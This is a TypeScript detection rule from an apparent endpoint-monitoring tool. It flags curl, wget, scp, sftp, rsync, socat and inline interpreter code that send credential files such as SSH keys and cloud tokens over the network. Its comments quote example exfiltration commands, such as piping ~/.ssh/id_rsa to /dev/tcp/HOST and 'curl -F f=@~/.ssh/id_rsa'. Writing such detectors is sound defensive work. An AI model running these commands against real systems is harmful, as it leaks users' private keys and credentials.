import type { ExecEventV1 } from '@vigil/schema';
import { defineDetection, type DetectionContext, type Finding } from '../define.js';
import { eventCommandLine, inlineCode, namesOf } from '../argv.js';
import { namesWithTool } from './exfil-pipe.js';
import { credentialIn } from '../host-indicators.js';
import { INTERPRETERS } from '../indicators.js';
import { endpoint, execOf, isLoopback, socketFds } from './behaviour.js';

/** curl's and wget's options whose value is a file they send (`@file`/`<file` for the form ones). */
const CURL_SENDS = new Set(['-T', '--upload-file']);
const CURL_FORMS = new Set([
  '-F',
  '--form',
  '-d',
  '--data',
  '--data-binary',
  '--data-urlencode',
  '--json',
  '--data-ascii',
]);
const WGET_SENDS = new Set(['--post-file', '--body-file']);
/** scp/sftp/rsync options that take a value: the identity file and config of `-i`/`-F` are not sent. */
const COPY_OPTIONS_WITH_VALUE = new Set([
  '-i',
  '-F',
  '-o',
  '-P',
  '-p',
  '-c',
  '-J',
  '-l',
  '-S',
  '-D',
  '-X',
  '-e',
  '--rsh',
  '-f',
]);
/** socat addresses that read a file. */
const SOCAT_FILE = /^(?:OPEN|GOPEN|FILE|READ):(.+?)(?:,.*)?$/i;

/** The credential files a network client's command line sends, by the client's own grammar. */
export function sentFiles(tool: string, argv: readonly string[]): string[] {
  const sent: string[] = [];
  const push = (v: string | undefined) => {
    const c = v === undefined ? undefined : credentialIn(v);
    if (c) sent.push(c);
  };
  if (tool === 'curl' || tool === 'wget') {
    for (let i = 1; i < argv.length; i++) {
      const a = argv[i]!;
      const [flag, inline] =
        a.startsWith('--') && a.includes('=')
          ? [a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1)]
          : [a, undefined];
      const value = inline ?? argv[i + 1];
      if (CURL_SENDS.has(flag) || WGET_SENDS.has(flag)) push(value);
      else if (CURL_FORMS.has(flag) && value !== undefined && /(?:^|[=;])[@<]/.test(value))
        push(value.slice(value.search(/[@<]/) + 1).split(';')[0]);
      else if (/^-T./.test(a)) push(a.slice(2));
    }
  } else if (tool === 'scp' || tool === 'sftp' || tool === 'rsync') {
    const operands: string[] = [];
    for (let i = 1; i < argv.length; i++) {
      const a = argv[i]!;
      if (COPY_OPTIONS_WITH_VALUE.has(a)) i++;
      else if (!a.startsWith('-')) operands.push(a);
    }
    // The last operand is where the copy goes; the ones before it are sent.
    for (const o of operands.slice(0, -1)) if (!/^[^/]*@?[^/]+:/.test(o)) push(o);
  } else if (tool === 'socat') {
    const reads = argv.slice(1).map((a) => SOCAT_FILE.exec(a)?.[1]);
    const net = argv.slice(1).some((a) => /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|OPENSSL|SSL|SCTP)[:-]/i.test(a));
    if (net) for (const r of reads) push(r);
  }
  return sent;
}

/** Where a client's command line sends to: URL hosts, `[user@]host:path` operands, socat's TCP:host:port. */
function destinations(tool: string, argv: readonly string[]): string[] {
  const hosts: string[] = [];
  for (const a of argv.slice(1)) {
    const url = /^[a-z][a-z0-9+.-]*:\/\/(?:[^@/]*@)?(\[[0-9a-f:.]+\]|[^/:?#]+)/i.exec(a);
    const copy = ['scp', 'sftp', 'rsync'].includes(tool) && !a.startsWith('-');
    const remote = copy ? /^(?:[^@/:]+@)?(\[[0-9a-f:.]+\]|[a-z0-9.-]+):/i.exec(a) : null;
    const socket = tool === 'socat' ? /^(?:TCP|TCP4|TCP6|UDP|UDP4|UDP6|OPENSSL|SSL|SCTP):([^:,]+):/i.exec(a) : null;
    const host = url?.[1] ?? socket?.[1] ?? remote?.[1];
    if (host) hosts.push(host.replace(/^\[|\]$/g, '').toLowerCase());
  }
  return hosts;
}

/** The credential files an interpreter's inline code (`python -c`, `perl -e`, `node -e`, `php -r`) names. */
export function inlineCredentials(argv: readonly string[]): string[] {
  return [
    ...new Set(
      inlineCode(argv)
        .split(/['"`\s(),;+]+/)
        .flatMap((tok) => credentialIn(tok) ?? []),
    ),
  ];
}

const CLIENTS = ['curl', 'wget', 'scp', 'sftp', 'rsync', 'socat'];

/**
 * A program that reads a credential file named on its command line with its stdout a network socket:
 * `cat ~/.ssh/id_rsa > /dev/tcp/HOST/443`, `base64 ~/.aws/credentials >&3` after `exec 3<>/dev/tcp/…`.
 * What it prints goes to the peer, whatever the program is called.
 */
function intoSocket(ev: ExecEventV1): Finding | null {
  const out = socketFds(ev).find((f) => f.fd === 1);
  if (!out) return null;
  const cred = ev.exec.argv.slice(1).map(credentialIn).find(Boolean);
  if (!cred) return null;
  const near = isLoopback(out.remote.addr);
  return {
    reason: `${ev.proc.comm} (pid ${ev.proc.pid}) reads credential file ${cred} with its stdout a ${out.type} socket to ${endpoint(out.remote)}${near ? ' (loopback)' : ''}: \`${eventCommandLine(ev.exec.argv).slice(0, 200)}\``,
    severity: near ? 'high' : 'critical',
  };
}

function clientOf(e: ExecEventV1, ctx: DetectionContext): string | undefined {
  return namesWithTool(e, ctx).find((n) => CLIENTS.includes(n));
}

/**
 * A network client told to send a credential file: `curl -F f=@~/.ssh/id_rsa`, `curl -T
 * ~/.aws/credentials`, `wget --post-file ~/.netrc`, `scp ~/.ssh/id_ed25519 host:`, `socat
 * OPEN:key TCP:host:port`. Read by each client's grammar: an identity file handed to ssh/scp
 * (`-i key`) or rsync's `-e "ssh -i key"` is how it logs in, not what it sends.
 */
export const credUpload = defineDetection({
  id: 'cred.upload',
  title: 'Credential file sent over the network',
  severity: 'critical',
  mitre: ['T1552.001', 'T1552.004', 'T1041'],
  on: ['exec', 'connect', 'conn'],
  description:
    'curl/wget/scp/sftp/rsync/socat (by name or content) whose command line sends a credential file (ssh private keys, cloud, git, Hugging Face, kube, docker tokens, /etc/shadow); a program that reads one with its stdout a network socket (cat key > /dev/tcp/…); an interpreter whose inline code names one and that connects out.',
  ranks: {
    min: 'high',
    max: 'critical',
    rule: 'critical toward a host off this one; high on loopback or when the command line names no host',
  },
  match(ev, ctx) {
    if (ev.kind === 'exec' && ev.exec.ret !== null && ev.exec.ret !== 0) return null;
    if (ev.kind !== 'exec') {
      // An interpreter that names a credential file in its inline code, then connects out.
      const out =
        ev.kind === 'connect'
          ? ev.connect
          : ev.conn.event === 'established' && ev.conn.direction === 'out'
            ? ev.conn.remote
            : null;
      const e = out && execOf(ctx.recent(ev.host, ev.proc.pid));
      if (!out || !e || ![...namesOf(e)].some((n) => INTERPRETERS.some((re) => re.test(n)))) return null;
      const named = inlineCredentials(e.exec.argv);
      if (named.length === 0) return null;
      const peer = 'daddr' in out ? { addr: out.daddr, port: out.dport } : out;
      return {
        reason: `${e.proc.comm} (pid ${e.proc.pid}) names credential file${named.length > 1 ? 's' : ''} ${named.join(', ')} in its inline code and connects to ${endpoint(peer)}${isLoopback(peer.addr) ? ' (loopback)' : ''}: \`${eventCommandLine(e.exec.argv).slice(0, 200)}\``,
        severity: isLoopback(peer.addr) ? 'high' : 'critical',
        evidence: [e.id],
      };
    }
    const straight = intoSocket(ev);
    if (straight) return straight;
    const tool = clientOf(ev, ctx);
    if (!tool) return null;
    const sent = sentFiles(tool, ev.exec.argv);
    if (sent.length === 0) return null;
    const line = eventCommandLine(ev.exec.argv);
    const far = destinations(tool, ev.exec.argv).some((h) => !isLoopback(h));
    return {
      reason: `${tool} ${ev.proc.exe} (pid ${ev.proc.pid}) sends credential file${sent.length > 1 ? 's' : ''} ${sent.join(', ')}${far ? ' to a host off this one' : ''}: \`${line.slice(0, 200)}\``,
      severity: far ? 'critical' : 'high',
    };
  },
});
